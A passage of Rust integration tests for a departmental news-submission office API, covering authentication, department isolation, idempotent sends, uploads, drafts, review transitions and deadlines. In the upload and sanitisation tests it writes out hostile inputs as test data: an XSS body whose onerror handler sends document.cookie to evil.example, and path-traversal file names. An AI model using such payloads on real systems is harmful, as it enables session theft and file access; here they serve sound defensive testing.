//! The office API over a real listener on loopback, with a clock the tests move.

use chrono::Duration;
use liaison_domain::wire::{ChangesResponse, InboxItem, SubmitItemResponse};
use liaison_domain::{ColumnView, Role};
use liaison_office::Store;
use reqwest::StatusCode;
use serde_json::{Value, json};

mod common;

use common::{Office, office, png, sha256_hex, start};

impl Office {
    async fn submit(&self, token: &str, key: Option<&str>, body: &Value) -> (StatusCode, Value) {
        let mut req = self
            .http
            .post(format!("{}/items", self.base))
            .bearer_auth(token)
            .json(body);
        if let Some(key) = key {
            req = req.header("Idempotency-Key", key);
        }
        let r = req.send().await.unwrap();
        (r.status(), r.json().await.unwrap())
    }

    /// The department's responsible person signs the item off (both demo departments used here
    /// sign off in the app), so it reaches the editors.
    async fn approve(&self, responsible: &str, id: &Value) {
        let token = self.sign_in(responsible).await;
        let (status, body) = self
            .post(&token, &format!("/items/{id}/approve"), Value::Null)
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(body["state"], "delivered");
    }

    async fn first_column(&self, token: &str) -> ColumnView {
        let (status, cols) = self.get(token, "/columns").await;
        assert_eq!(status, StatusCode::OK);
        let cols: Vec<ColumnView> = serde_json::from_value(cols).unwrap();
        cols.into_iter().find(|c| c.feed.accepts_items()).unwrap()
    }
}

fn item(column_id: i64, title: &str) -> Value {
    json!({"draft_key": format!("draft-{title}"), "version": 1, "column_id": column_id,
           "title": title, "body_html": "<h2>小标题</h2><ul><li>要点</li></ul>"})
}

#[tokio::test]
async fn sign_in_fails_with_a_json_error_and_succeeds_with_a_token() {
    let o = office().await;
    for body in [
        json!({"login": "jyj.officer", "password": "wrong"}),
        json!({"login": "nobody", "password": "wrong"}),
    ] {
        let r = o
            .http
            .post(format!("{}/sessions", o.base))
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["code"], "wrong_credentials");
    }
    let token = o.sign_in("jyj.officer").await;
    let (status, me) = o.get(&token, "/sessions/current").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(me["login"], "jyj.officer");
    assert_eq!(me["department"]["name"], "市教育局");
    assert_eq!(me["holder_name"], "王晓燕");

    // Signing out kills the token.
    let r = o
        .http
        .delete(format!("{}/sessions/current", o.base))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    let (status, err) = o.get(&token, "/sessions/current").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(err["code"], "unauthenticated");
}

#[tokio::test]
async fn missing_garbage_and_expired_tokens_are_refused() {
    let o = office().await;
    let r = o
        .http
        .get(format!("{}/columns", o.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let (status, _) = o.get("not-a-token", "/columns").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);

    let token = o.sign_in("wjw.officer").await;
    o.clock.advance(Duration::hours(11));
    assert_eq!(o.get(&token, "/columns").await.0, StatusCode::OK);
    o.clock.advance(Duration::hours(2));
    let (status, err) = o.get(&token, "/columns").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(err["code"], "unauthenticated");
}

#[tokio::test]
async fn departments_see_and_send_only_their_own() {
    let o = office().await;
    let edu = o.sign_in("jyj.officer").await;
    let health = o.sign_in("wjw.officer").await;
    let edu_column = o.first_column(&edu).await;
    let health_column = o.first_column(&health).await;

    let (_, cols) = o.get(&edu, "/columns").await;
    let cols: Vec<ColumnView> = serde_json::from_value(cols).unwrap();
    assert!(
        cols.len() >= 3
            && cols
                .iter()
                .all(|c| c.department_id == edu_column.department_id)
    );

    // Sending into another department's column.
    let (status, err) = o
        .submit(&edu, Some("k-cross"), &item(health_column.id, "越权稿件"))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{err}");
    assert_eq!(err["code"], "forbidden");

    // Reading another department's item.
    let (status, sent) = o
        .submit(&health, Some("k-h"), &item(health_column.id, "卫健稿件"))
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, _) = o.get(&edu, &format!("/items/{}", sent["id"])).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(
        o.get(&health, &format!("/items/{}", sent["id"])).await.0,
        StatusCode::OK
    );

    // "My items" are the department's only.
    let (status, mine) = o.get(&edu, "/items").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        mine.as_array()
            .unwrap()
            .iter()
            .all(|i| i["department_id"] == edu_column.department_id)
    );
    let (_, theirs) = o.get(&health, "/items").await;
    assert!(
        theirs
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["title"] == "卫健稿件")
    );
    assert!(
        mine.as_array()
            .unwrap()
            .iter()
            .all(|i| i["title"] != "卫健稿件")
    );

    // The inbox is the office's.
    let (status, err) = o.get(&edu, "/inbox").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(err["code"], "forbidden");

    // A responsible person does not send; an editor does not send either.
    let resp = o.sign_in("jyj.responsible").await;
    assert_eq!(
        o.submit(&resp, Some("k-r"), &item(edu_column.id, "责任人"))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let editor = o.sign_in("bjb.editor").await;
    assert_eq!(
        o.submit(&editor, Some("k-e"), &item(edu_column.id, "编辑"))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
}

#[tokio::test]
async fn a_send_is_stored_once_per_idempotency_key() {
    let o = office().await;
    let edu = o.sign_in("jyj.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&edu).await;
    let body = item(column.id, "关于开展校园安全检查的通知");

    let (status, err) = o.submit(&edu, None, &body).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(err["code"], "idempotency_key_missing");

    let (s1, first) = o.submit(&edu, Some("key-1"), &body).await;
    assert_eq!(s1, StatusCode::CREATED);
    o.approve("jyj.responsible", &first["id"]).await;
    let first: SubmitItemResponse = serde_json::from_value(first).unwrap();
    assert_eq!(first.state, liaison_domain::ItemState::AwaitingSignoff);
    assert!(
        first.receipt.starts_with("LS-20261127-"),
        "{}",
        first.receipt
    );

    o.clock.advance(Duration::minutes(5));
    let (s2, again) = o.submit(&edu, Some("key-1"), &body).await;
    assert_eq!(s2, StatusCode::CREATED);
    let again: SubmitItemResponse = serde_json::from_value(again).unwrap();
    assert_eq!(again, first, "a replay answers exactly as the first time");

    let mut other = body.clone();
    other["title"] = json!("另一篇稿件");
    let (s3, err) = o.submit(&edu, Some("key-1"), &other).await;
    assert_eq!(s3, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(err["code"], "idempotency_key_reused");

    // The same version sent again under another key (the seat's other workstation) is not
    // stored twice; the refusal names the item the office holds, which the seat may read.
    let (s4, err) = o.submit(&edu, Some("key-2"), &body).await;
    assert_eq!(
        (s4, err["code"].as_str(), err["item_id"].as_i64()),
        (StatusCode::CONFLICT, Some("already_sent"), Some(first.id))
    );
    let (status, held) = o.get(&edu, &format!("/items/{}", first.id)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(held["receipt"].as_str(), Some(first.receipt.as_str()));

    let (_, inbox) = o.get(&editor, "/inbox").await;
    let inbox: Vec<InboxItem> = serde_json::from_value(inbox).unwrap();
    let ours: Vec<_> = inbox
        .iter()
        .filter(|i| i.title == "关于开展校园安全检查的通知")
        .collect();
    assert_eq!(ours.len(), 1, "one stored item");
    assert_eq!(ours[0].receipt, first.receipt);
    assert_eq!(ours[0].department.name, "市教育局");
    assert_eq!(ours[0].holder_name, "王晓燕");
    assert_eq!(ours[0].column_name, column.name);
    assert!(
        inbox
            .iter()
            .all(|i| i.state == liaison_domain::ItemState::Delivered)
    );
}

#[tokio::test]
async fn editors_accept_and_return_and_the_department_learns_it_through_changes() {
    let o = office().await;
    let edu = o.sign_in("jyj.officer").await;
    let health = o.sign_in("wjw.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&edu).await;

    let (_, health_start) = o.get(&health, "/changes?since=0").await;
    let (_, a) = o.submit(&edu, Some("a"), &item(column.id, "稿件甲")).await;
    let (_, b) = o.submit(&edu, Some("b"), &item(column.id, "稿件乙")).await;
    o.approve("jyj.responsible", &a["id"]).await;
    o.approve("jyj.responsible", &b["id"]).await;
    let (_, start) = o.get(&edu, "/changes?since=0").await;
    let start: ChangesResponse = serde_json::from_value(start).unwrap();

    // Officers cannot review.
    let (status, _) = o
        .post(
            &edu,
            &format!("/items/{}/accept", a["id"]),
            json!({"published_url": "https://x.example/1"}),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    let (status, accepted) = o
        .post(
            &editor,
            &format!("/items/{}/accept", a["id"]),
            json!({"published_url": "https://portal.example/a.html"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{accepted}");
    assert_eq!(accepted["state"], "accepted");
    let (status, returned) = o
        .post(
            &editor,
            &format!("/items/{}/return", b["id"]),
            json!({"comment": "请补充发布机关和日期"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{returned}");
    assert_eq!(returned["state"], "returned");

    // Final and reviewed items take no second review.
    let (status, err) = o
        .post(
            &editor,
            &format!("/items/{}/return", a["id"]),
            json!({"comment": "晚了"}),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(err["code"], "invalid_transition");
    // A return without a comment says nothing to the officer.
    let (_, c) = o.submit(&edu, Some("c"), &item(column.id, "稿件丙")).await;
    let (status, _) = o
        .post(
            &editor,
            &format!("/items/{}/return", c["id"]),
            json!({"comment": "  "}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    let (_, ch) = o.get(&edu, &format!("/changes?since={}", start.next)).await;
    let ch: ChangesResponse = serde_json::from_value(ch).unwrap();
    // The two reviews, and the third item waiting for its sign-off.
    assert_eq!(ch.changes.len(), 3);
    let v = serde_json::to_value(&ch.changes).unwrap();
    assert_eq!(v[2]["kind"], "signoff_requested");
    assert_eq!(v[2]["title"], "稿件丙");
    assert_eq!(v[0]["state"], "accepted");
    assert_eq!(v[0]["published_url"], "https://portal.example/a.html");
    assert_eq!(v[1]["state"], "returned");
    assert_eq!(v[1]["review_comment"], "请补充发布机关和日期");
    assert_eq!(v[1]["draft_key"], "draft-稿件乙");
    // Nothing more after the cursor; another department sees none of it.
    let (_, after) = o.get(&edu, &format!("/changes?since={}", ch.next)).await;
    assert_eq!(after["changes"].as_array().unwrap().len(), 0);
    let (_, other) = o
        .get(&health, &format!("/changes?since={}", health_start["next"]))
        .await;
    assert_eq!(other["changes"].as_array().unwrap().len(), 0);
}

#[tokio::test]
async fn a_long_poll_wakes_when_a_review_lands() {
    let o = office().await;
    let edu = o.sign_in("jyj.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&edu).await;
    let (_, sent) = o.submit(&edu, Some("lp"), &item(column.id, "长轮询")).await;
    o.approve("jyj.responsible", &sent["id"]).await;
    let (_, now) = o.get(&edu, "/changes?since=0").await;
    let cursor = now["next"].as_i64().unwrap();

    let poll = {
        let (http, base, edu) = (o.http.clone(), o.base.clone(), edu.clone());
        tokio::spawn(async move {
            let started = std::time::Instant::now();
            let r = http
                .get(format!("{base}/changes?since={cursor}&wait=20"))
                .bearer_auth(edu)
                .send()
                .await
                .unwrap();
            (
                started.elapsed(),
                r.json::<ChangesResponse>().await.unwrap(),
            )
        })
    };
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    o.post(
        &editor,
        &format!("/items/{}/return", sent["id"]),
        json!({"comment": "改"}),
    )
    .await;
    let (took, answer) = poll.await.unwrap();
    assert_eq!(answer.changes.len(), 1);
    assert!(
        took < std::time::Duration::from_secs(10),
        "woke after {took:?}"
    );
}

/// The document itself is walked in `tests/openapi.rs`; here: what a client gets wrong is
/// answered in the API's error format.
#[tokio::test]
async fn malformed_paths_queries_and_unknown_routes_answer_in_the_error_format() {
    let o = office().await;
    // Malformed paths and queries answer in the same error format.
    let token = o.sign_in("bjb.editor").await;
    let (status, err) = o.get(&token, "/items/not-a-number").await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("bad_request"))
    );
    let (status, err) = o.get(&token, "/changes?since=abc").await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("bad_request"))
    );
    // Unknown routes answer in the same error format.
    let r = o.http.get(format!("{}/nope", o.base)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert_eq!(r.json::<Value>().await.unwrap()["code"], "not_found");
}

#[test]
fn demo_city_is_big_enough_and_has_history() {
    let dir = tempfile::tempdir().unwrap();
    let store = liaison_office::open_store(dir.path()).unwrap();
    let seats = liaison_office::demo::seed(store.as_ref(), start()).unwrap();
    let officers = seats.iter().filter(|s| s.role == Role::Officer).count();
    assert!(officers >= 8);
    assert_eq!(
        officers,
        seats.iter().filter(|s| s.role == Role::Responsible).count()
    );
    assert_eq!(seats.iter().filter(|s| s.role == Role::Editor).count(), 1);
    assert_eq!(seats.iter().filter(|s| s.role == Role::Admin).count(), 1);
    let filter = liaison_office::store::InboxFilter {
        state: Some(liaison_domain::ItemState::Accepted),
        limit: 500,
        ..Default::default()
    };
    let accepted = store.inbox(&filter).unwrap();
    assert!(accepted.len() >= 8, "history: {}", accepted.len());
    assert!(accepted.iter().all(|i| i.delivered_at < start()));
}

#[tokio::test]
async fn files_arrive_in_pieces_resume_where_they_stopped_and_are_checked() {
    let o = office().await;
    let token = o.sign_in("jyj.officer").await;
    let image = png(300 * 1024, 1);
    let sha = sha256_hex(&image);

    let (status, up) = o.announce(&token, &image, "校园开放日.png").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        (up["offset"].as_u64(), up["complete"].as_bool()),
        (Some(0), Some(false))
    );
    let (status, up) = o.piece(&token, &sha, 0, &image[..100 * 1024]).await;
    assert_eq!(
        (status, up["offset"].as_u64()),
        (StatusCode::OK, Some(100 * 1024))
    );
    // A piece that does not start where the office's copy ends is refused; the status says where.
    let (status, err) = o.piece(&token, &sha, 0, &image[..10]).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::CONFLICT, Some("conflict"))
    );
    let (_, again) = o.announce(&token, &image, "校园开放日.png").await;
    assert_eq!(again["offset"].as_u64(), Some(100 * 1024));
    let (status, up) = o
        .piece(&token, &sha, 100 * 1024, &image[100 * 1024..])
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(up["complete"], true);
    assert_eq!(up["mime"], "image/png");

    // A send may name it; the item carries it and serves it back as a download.
    let column = o.first_column(&token).await;
    let mut body = item(column.id, "开放日图片");
    body["attachments"] = json!([{"sha256": sha, "name": "校园开放日.png", "size": image.len(), "mime": "image/png"}]);
    let (status, sent) = o.submit(&token, Some("k-files"), &body).await;
    assert_eq!(status, StatusCode::CREATED, "{sent}");
    let id = sent["id"].as_i64().unwrap();
    let (_, detail) = o.get(&token, &format!("/items/{id}")).await;
    assert_eq!(detail["attachments"][0]["sha256"], sha.as_str());
    let r = o
        .http
        .get(format!("{}/items/{id}/files/{sha}", o.base))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let h = r.headers().clone();
    assert_eq!(h["content-type"], "image/png");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert!(
        h["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment;")
    );
    assert!(
        h["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("sandbox")
    );
    assert_eq!(r.bytes().await.unwrap().as_ref(), image.as_slice());
    // Another department cannot read it.
    let other = o.sign_in("wjw.officer").await;
    let (status, _) = o.get(&other, &format!("/items/{id}/files/{sha}")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // A body may show inline only files the item carries.
    let mut inline = item(column.id, "图文");
    inline["body_html"] = json!(format!(
        r#"<p><img src="liaison-file:{}" alt="图"></p>"#,
        "c".repeat(64)
    ));
    let (status, err) = o.submit(&token, Some("k-inline"), &inline).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("validation"))
    );
    inline["body_html"] = json!(format!(
        r#"<p><img src="liaison-file:{sha}" alt="开放日"></p>"#
    ));
    inline["attachments"] = body["attachments"].clone();
    let (status, _) = o.submit(&token, Some("k-inline-2"), &inline).await;
    assert_eq!(status, StatusCode::CREATED);

    // A send naming a file that was never uploaded (completely) is told so, and nothing is stored.
    let half = png(50 * 1024, 2);
    o.announce(&token, &half, "半张.png").await;
    o.piece(&token, &sha256_hex(&half), 0, &half[..1000]).await;
    for missing in [sha256_hex(&half), sha256_hex(b"never uploaded")] {
        let mut body = item(column.id, "缺附件");
        body["attachments"] =
            json!([{"sha256": missing, "name": "a.png", "size": half.len(), "mime": "image/png"}]);
        let (status, err) = o.submit(&token, Some(&format!("k-{missing}")), &body).await;
        assert_eq!(
            (status, err["code"].as_str()),
            (StatusCode::CONFLICT, Some("attachment_missing"))
        );
    }
    let (_, inbox) = o.get(&o.sign_in("bjb.editor").await, "/inbox").await;
    assert!(!inbox.to_string().contains("缺附件"));
}

#[tokio::test]
async fn wrong_bytes_executables_and_huge_files_are_refused() {
    let o = office().await;
    let token = o.sign_in("jyj.officer").await;
    // Bytes that are not the announced digest: refused and forgotten, so the upload can restart.
    let image = png(4096, 3);
    let sha = sha256_hex(&image);
    o.announce(&token, &image, "a.png").await;
    let mut wrong = image.clone();
    wrong[4000] ^= 1;
    let (status, err) = o.piece(&token, &sha, 0, &wrong).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("digest_mismatch"))
    );
    let (status, _) = o.get(&token, &format!("/uploads/{sha}")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, up) = o.upload(&token, &image, "a.png").await;
    assert_eq!(
        (status, up["complete"].as_bool()),
        (StatusCode::OK, Some(true))
    );

    // An executable named like an image: its bytes say what it is.
    let mut exe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff".to_vec();
    exe.resize(2048, 0);
    let (status, err) = o.upload(&token, &exe, "通知.png").await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::UNSUPPORTED_MEDIA_TYPE, Some("unsupported_file"))
    );

    // Too large is refused before a byte is sent; a piece past the announced size too.
    let (status, err) = o
        .post(
            &token,
            "/uploads",
            json!({"sha256": "a".repeat(64), "size": 300u64 << 20, "name": "big.pdf"}),
        )
        .await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::PAYLOAD_TOO_LARGE, Some("payload_too_large"))
    );
    let small = png(1000, 4);
    o.announce(&token, &small, "s.png").await;
    let (status, _) = o.piece(&token, &sha256_hex(&small), 0, &png(2000, 4)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    // Names are names, not paths; digests are digests.
    let (status, _) = o.announce(&token, &small, "../../etc/passwd").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let (status, _) = o.get(&token, "/uploads/..%2F..%2Foffice.db").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn a_stale_draft_backup_never_overwrites_a_newer_one() {
    let o = office().await;
    let token = o.sign_in("jyj.officer").await;
    let put = |base: Option<i64>, title: &str| {
        let body = json!({"base_rev": base, "version": 1, "column_id": null, "title": title,
                          "body_html": "<p>正文</p>"});
        let req = o
            .http
            .put(format!("{}/drafts/d-1", o.base))
            .bearer_auth(&token)
            .json(&body);
        async move {
            let r = req.send().await.unwrap();
            (r.status(), r.json::<Value>().await.unwrap())
        }
    };
    let (status, first) = put(None, "第一稿").await;
    assert_eq!((status, first["rev"].as_i64()), (StatusCode::OK, Some(1)));
    let (_, second) = put(Some(1), "第二稿（甲电脑）").await;
    assert_eq!(second["rev"], 2);
    // Another workstation still on rev 1: refused, and told what the office holds.
    let (status, stale) = put(Some(1), "第二稿（乙电脑）").await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(stale["code"], "stale_draft");
    assert_eq!(stale["current"]["rev"], 2);
    assert_eq!(stale["current"]["title"], "第二稿（甲电脑）");
    let (status, _) = put(None, "又一个第一稿").await;
    assert_eq!(status, StatusCode::CONFLICT);

    // Only the seat sees its drafts.
    let (_, mine) = o.get(&token, "/drafts").await;
    assert_eq!(mine.as_array().unwrap().len(), 1);
    assert_eq!(mine[0]["title"], "第二稿（甲电脑）");
    // A desk asks only for what was written since it last looked.
    let seq = mine[0]["seq"].as_i64().unwrap();
    let (_, newer) = o.get(&token, &format!("/drafts?since={seq}")).await;
    assert_eq!(newer, json!([]));
    let (_, all) = o.get(&token, &format!("/drafts?since={}", seq - 1)).await;
    assert_eq!(all.as_array().unwrap().len(), 1);
    let (_, theirs) = o.get(&o.sign_in("wjw.officer").await, "/drafts").await;
    assert_eq!(theirs, json!([]));
    let (status, _) = o.get(&o.sign_in("bjb.editor").await, "/drafts").await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // Once that version is sent, its backup is no longer offered for restoring.
    let column = o.first_column(&token).await;
    let mut body = item(column.id, "第二稿");
    body["draft_key"] = json!("d-1");
    let (status, _) = o.submit(&token, Some("k-d1"), &body).await;
    assert_eq!(status, StatusCode::CREATED);
    let (_, mine) = o.get(&token, "/drafts").await;
    assert_eq!(mine, json!([]));
}

#[tokio::test]
async fn the_board_puts_the_most_urgent_column_first_and_urges_reach_the_department() {
    let o = office().await;
    let officer = o.sign_in("jyj.officer").await;
    let (status, board) = o.get(&officer, "/board").await;
    assert_eq!(status, StatusCode::OK);
    let board = board.as_array().unwrap().clone();
    assert!(board.len() >= 3);
    let urgency = |c: &Value| match c["status"]["state"].as_str().unwrap() {
        "overdue" => 0,
        "due_soon" => 1,
        _ => 2,
    };
    assert!(
        board.windows(2).all(|w| urgency(&w[0]) <= urgency(&w[1])),
        "most urgent first: {board:?}"
    );
    // The demo city has news columns without an accepted item for weeks: overdue.
    assert_eq!(board[0]["status"]["state"], "overdue");
    assert!(
        board
            .iter()
            .all(|c| c["column"]["department_id"] == board[0]["column"]["department_id"])
    );

    // Editors name the department; the calendar is the published one.
    let editor = o.sign_in("bjb.editor").await;
    let (status, _) = o.get(&editor, "/board").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let dept = board[0]["column"]["department_id"].as_i64().unwrap();
    let (status, same) = o
        .get(&editor, &format!("/board?department_id={dept}"))
        .await;
    assert_eq!(
        (status, same.as_array().unwrap().len()),
        (StatusCode::OK, board.len())
    );
    let (_, calendar) = o.get(&officer, "/calendar").await;
    assert!(
        calendar["holidays"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d == "2026-10-01")
    );
    assert!(
        calendar["working_weekends"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d == "2026-02-14")
    );

    // An urge reaches the department's change log; officers cannot urge.
    let column = board[0]["column"]["id"].as_i64().unwrap();
    let (status, _) = o
        .post(
            &officer,
            &format!("/columns/{column}/urge"),
            json!({"message": "请今天报送"}),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = o
        .post(
            &editor,
            &format!("/columns/{column}/urge"),
            json!({"message": "本栏目已超期，请今天报送"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let (_, changes) = o.get(&officer, "/changes?since=0").await;
    let urged: Vec<&Value> = changes["changes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["kind"] == "column_urged")
        .collect();
    assert_eq!(urged.len(), 1);
    assert_eq!(urged[0]["message"], "本栏目已超期，请今天报送");
    assert_eq!(urged[0]["column_id"], column);
    // Another department does not hear of it.
    let other = o.sign_in("wjw.officer").await;
    let (_, theirs) = o.get(&other, "/changes?since=0").await;
    assert!(!theirs.to_string().contains("column_urged"));

    // A column fed by items is kept current by accepted items only: no update is recorded on it.
    let fed = board
        .iter()
        .find(|c| c["column"]["feed"] == "submission")
        .and_then(|c| c["column"]["id"].as_i64())
        .unwrap();
    let (status, err) = o
        .post(&editor, &format!("/columns/{fed}/updates"), json!({}))
        .await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("validation"))
    );

    // An update recorded now moves a scraped or linked gap column's due date on.
    let (_, departments) = o.get(&editor, "/departments").await;
    let mut gap = None;
    for d in departments.as_array().unwrap() {
        let (_, theirs) = o
            .get(&editor, &format!("/board?department_id={}", d["id"]))
            .await;
        gap = gap.or_else(|| {
            theirs
                .as_array()
                .unwrap()
                .iter()
                .find(|c| {
                    c["column"]["duty"]["kind"] == "max_gap"
                        && c["column"]["feed"] != "submission"
                        && c["column"]["feed"] != "co_editing"
                })
                .cloned()
        });
    }
    let gap = gap.expect("a scraped or linked gap column");
    let gap_id = gap["column"]["id"].as_i64().unwrap();
    o.clock.advance(chrono::Duration::hours(1));
    let (status, moved) = o
        .post(&editor, &format!("/columns/{gap_id}/updates"), json!({}))
        .await;
    assert_eq!(status, StatusCode::CREATED);
    assert_eq!(moved["status"]["state"], "ok");
    assert!(moved["status"]["due_at"].as_str() > gap["status"]["due_at"].as_str());
    let (_, after) = o.get(&officer, "/board").await;

    // The office's summary counts each department's overdue columns.
    let (status, summary) = o.get(&editor, "/timeliness").await;
    assert_eq!(status, StatusCode::OK);
    let mine = summary
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["department"]["id"] == dept)
        .unwrap();
    let overdue_now = after
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["status"]["state"] == "overdue")
        .count();
    assert_eq!(mine["overdue"], overdue_now);
    assert!(mine["accepted_in_period"].as_u64().unwrap() >= 1);
}

#[tokio::test]
async fn only_the_admin_publishes_the_calendar_a_year_at_a_time() {
    let o = office().await;
    let year = json!({"holidays": ["2027-01-01"], "working_weekends": ["2027-02-06"]});
    let put = |token: String, path: &'static str, body: Value| {
        let req = o
            .http
            .put(format!("{}{path}", o.base))
            .bearer_auth(token)
            .json(&body);
        async move { req.send().await.unwrap().status() }
    };
    assert_eq!(
        put(
            o.sign_in("bjb.editor").await,
            "/calendar/2027",
            year.clone()
        )
        .await,
        StatusCode::FORBIDDEN
    );
    let admin = o.sign_in("bjb.admin").await;
    assert_eq!(
        put(admin.clone(), "/calendar/2027", year.clone()).await,
        StatusCode::OK
    );
    // A day of another year is refused.
    assert_eq!(
        put(admin.clone(), "/calendar/2028", year).await,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    let (_, calendar) = o.get(&admin, "/calendar").await;
    let holidays = calendar["holidays"].as_array().unwrap();
    assert!(holidays.iter().any(|d| d == "2027-01-01"));
    assert!(
        holidays.iter().any(|d| d == "2026-10-01"),
        "other years stay"
    );
}

#[tokio::test]
async fn a_body_is_stored_without_scripts_handlers_or_script_addresses() {
    let o = office().await;
    let token = o.sign_in("jyj.officer").await;
    let column = o.first_column(&token).await;
    let mut body = item(column.id, "带脚本的稿件");
    body["body_html"] = json!(
        r#"<h2>标题</h2><p>正文</p><img src=x alt="x" onerror="fetch('https://evil.example/'+document.cookie)"><script>alert(1)</script><a href="javascript:alert(1)">链接</a>"#
    );
    let (status, sent) = o.submit(&token, Some("k-xss"), &body).await;
    assert_eq!(status, StatusCode::CREATED);
    o.approve("jyj.responsible", &sent["id"]).await;
    let editor = o.sign_in("bjb.editor").await;
    let (_, stored) = o.get(&editor, &format!("/items/{}", sent["id"])).await;
    let html = stored["body_html"].as_str().unwrap();
    for gone in ["onerror", "<script", "javascript:", "document.cookie"] {
        assert!(!html.contains(gone), "{gone} was stored: {html}");
    }
    assert!(
        html.contains("<h2>标题</h2>") && html.contains("链接"),
        "{html}"
    );
    // The same send again is a replay of the first answer, not a key reused.
    let (status, again) = o.submit(&token, Some("k-xss"), &body).await;
    assert_eq!((status, &again["id"]), (StatusCode::CREATED, &sent["id"]));
}

#[tokio::test]
async fn a_rejected_item_stays_rejected_whatever_is_replayed() {
    let o = office().await;
    let officer = o.sign_in("jyj.officer").await;
    let column = o.first_column(&officer).await;
    let body = item(column.id, "不宜公开的稿件");
    let (status, sent) = o.submit(&officer, Some("k-reject"), &body).await;
    assert_eq!(status, StatusCode::CREATED);
    o.approve("jyj.responsible", &sent["id"]).await;
    let id = sent["id"].as_i64().unwrap();
    let editor = o.sign_in("bjb.editor").await;
    let (status, err) = o
        .post(
            &editor,
            &format!("/items/{id}/reject"),
            json!({"reason": " "}),
        )
        .await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("validation"))
    );
    let (status, rejected) = o
        .post(
            &editor,
            &format!("/items/{id}/reject"),
            json!({"reason": "涉及未公开信息，不予采用"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(rejected["state"], "rejected");
    assert_eq!(rejected["review_comment"], "涉及未公开信息，不予采用");

    // Officers cannot reject; nothing moves a rejected item again.
    let (status, _) = o
        .post(
            &officer,
            &format!("/items/{id}/reject"),
            json!({"reason": "x"}),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    for (path, body) in [
        (
            "accept",
            json!({"published_url": "https://portal.example/1.html"}),
        ),
        ("return", json!({"comment": "请修改"})),
        ("reject", json!({"reason": "再拒一次"})),
    ] {
        let (status, err) = o.post(&editor, &format!("/items/{id}/{path}"), body).await;
        assert_eq!(
            (status, err["code"].as_str()),
            (StatusCode::CONFLICT, Some("invalid_transition")),
            "{path}"
        );
    }
    // Replaying the original send gets the first answer; the item is still rejected.
    let (status, again) = o.submit(&officer, Some("k-reject"), &body).await;
    assert_eq!((status, &again["id"]), (StatusCode::CREATED, &sent["id"]));
